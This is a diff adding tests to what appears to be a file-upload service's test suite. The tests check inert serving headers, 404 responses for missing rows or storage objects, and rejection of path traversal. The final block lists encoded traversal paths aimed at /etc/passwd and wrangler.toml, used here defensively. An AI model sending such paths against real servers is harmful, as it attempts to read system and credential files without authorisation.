+  ])('accepts %s and serves it inert: %s, %s', async (_what, type, disposition, name, bytes) => {
+    const upload = (await postFile(member, bytes, name)).body.data!
+    expect(upload.mime).toBe(type)
+    const res = await fetchFile(upload.src)
+    expect(served(res)).toEqual({ type, nosniff: 'nosniff', disposition, sandboxed: true })
+    expect(new Uint8Array(await res.arrayBuffer())).toEqual(bytes)
+    inert += 1
+  })
+
+  it('answers 404 for an upload whose row is gone, even though its object remains', async () => {
+    const upload = (await postImage(member, { data: base64(PNG), path: 'event' })).body.data!
+    await env.DB.prepare('DELETE FROM uploads WHERE id = ?').bind(upload.id).run()
+    expect(await env.UPLOADS.head(upload.path)).not.toBeNull()
+    expect((await fetchFile(upload.src)).status).toBe(404)
+    servedChecks += 1
+  })
+
+  it.each([
+    ['a plain GET', {}],
+    ['a conditional GET', { 'if-none-match': '"anything"' }],
+    ['a Range request', { range: 'bytes=0-3' }],
+  ])('answers 404, not 500, when the R2 object is missing (%s)', async (_what, headers) => {
+    const song = (await postFile(member, concat('ID3', [4, 0, 0, 0, 0, 0, 0, 1, 2, 3]), 'song.mp3'))
+      .body.data!
+    await env.UPLOADS.delete(song.path)
+    expect((await fetchFile(song.src, headers)).status).toBe(404)
+    servedChecks += 1
+  })
+
+  it.each([
+    '/api/files/..%2F..%2Fwrangler.toml',
+    '/api/files/images/event/..%2F..%2F..%2Fetc%2Fpasswd',
+    '/api/files/%2e%2e/%2e%2e/etc/passwd',
+    '/api/files/images%5C..%5C..%5Cwrangler.toml',
+  ])('answers 404 for a traversal path %s', async (path) => {
+    expect((await fetchFile(path)).status).toBe(404)
+    servedChecks += 1
+  })
+})
